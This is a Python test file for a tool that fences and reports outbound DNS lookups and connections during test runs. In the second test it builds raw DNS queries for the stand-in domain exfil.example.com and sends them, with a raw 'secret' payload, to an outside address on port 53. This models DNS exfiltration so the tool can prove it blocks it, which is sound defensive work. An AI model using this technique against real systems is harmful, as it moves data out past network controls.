"""Way out: looking up a name, which tells a stranger's server something. The report names the domain."""

from __future__ import annotations

from tests.end_to_end.caught import Fenced


def test_getaddrinfo(fenced: Fenced) -> None:
    """Refused is answered: to a resolver that asks once only, silence would be another error (EAI_AGAIN)."""
    run = fenced.run(
        """
        import asyncio, socket, threading
        import pytest
        from here import HELLO, PORT

        def test_away():
            with pytest.raises(socket.gaierror) as caught:
                socket.getaddrinfo("api.stripe.com", 443)
            assert caught.value.errno == socket.EAI_NONAME

        def test_older_interface():
            with pytest.raises(socket.gaierror):
                socket.gethostbyname("www.Example.COM")

        def test_create_connection():
            with pytest.raises(socket.gaierror):
                socket.create_connection(("db.example.com", 5432), timeout=5)

        def test_thread():
            thread = threading.Thread(target=in_thread)
            thread.start()
            thread.join()

        def in_thread():
            with pytest.raises(socket.gaierror):
                socket.getaddrinfo("thread.example.com", 443)

        def test_asyncio():
            with pytest.raises(socket.gaierror):
                asyncio.run(asyncio.wait_for(connect("async.example.com"), 20))

        async def connect(host):
            await asyncio.open_connection(host, 443)

        def test_two_names():
            for name in "a.example.com", "b.example.com", "a.example.com":
                with pytest.raises(socket.gaierror):
                    socket.getaddrinfo(name, 80)

        def test_names_that_do_not_exist_by_definition():
            with pytest.raises(socket.gaierror):
                socket.getaddrinfo("nowhere.invalid", 80)

        def test_loopback():
            with socket.create_connection(("localhost", PORT), timeout=5) as s:
                assert s.recv(99) == HELLO
            assert socket.getaddrinfo("127.0.0.1", 80)
        """,
        env={"RES_OPTIONS": "attempts:1 timeout:15"},
    )
    run.refused("test_away", "resolve api.stripe.com", line='socket.getaddrinfo("api.stripe.com", 443)', count=None)
    run.refused("test_older_interface", "resolve www.example.com", count=None)
    run.refused("test_create_connection", "resolve db.example.com", count=None)
    line = 'socket.getaddrinfo("thread.example.com", 443)'
    run.refused("test_thread", "resolve thread.example.com", line=line, count=None)
    # asyncio asks in a thread of its own, where nothing of the user's runs: the line is that which awaits it, unless
    # the machine is too busy for two stacks to be written within milliseconds.
    found = run.refused("test_asyncio", "resolve async.example.com", count=None)
    assert run.line_of(found) in ("await asyncio.open_connection(host, 443)", ""), run
    two = run.attempts("test_two_names")
    assert [v.what for v in two] == ["resolve a.example.com", "resolve b.example.com"], run
    run.clean("test_names_that_do_not_exist_by_definition", "test_loopback")


def test_a_query_written_by_hand(fenced: Fenced) -> None:
    """What does not go by way of libc: no name server is ever asked, and the name is known all the same."""
    run = fenced.run(
        """
        import socket, struct
        from here import AWAY

        def query(name):
            labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
            return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", 1, 1)

        def test_unconnected():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(query("exfil.example.com"), (AWAY, 53))  # and waits for no answer

        def test_connected():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(10)
                s.connect((AWAY, 53))
                s.send(query("exfil.example.com"))
                answer = s.recv(512)
            assert answer[3] & 15 == 3  # NXDOMAIN

        def test_by_tcp():
            with socket.create_connection((AWAY, 53), timeout=10) as s:
                message = query("exfil.example.com")
                s.sendall(len(message).to_bytes(2, "big") + message)
                answer = s.recv(512)
            assert answer[5] & 15 == 3

        def test_no_query_at_all():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b"secret", (AWAY, 53))  # it goes no further than to the fence

        def test_no_query_at_all_connected():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(10)
                s.connect((AWAY, 53))
                s.send(b"secret")
                s.send(query("exfil.example.com"))
                s.recv(512)
        """
    )
    run.refused("test_unconnected", "resolve exfil.example.com")
    run.refused("test_connected", "resolve exfil.example.com")
    run.refused("test_by_tcp", "resolve exfil.example.com")
    run.refused("test_no_query_at_all", "connect 198.51.100.7:53/udp")
    both = run.attempts("test_no_query_at_all_connected")
    assert [v.what for v in both] == ["connect 198.51.100.7:53/udp", "resolve exfil.example.com"], run
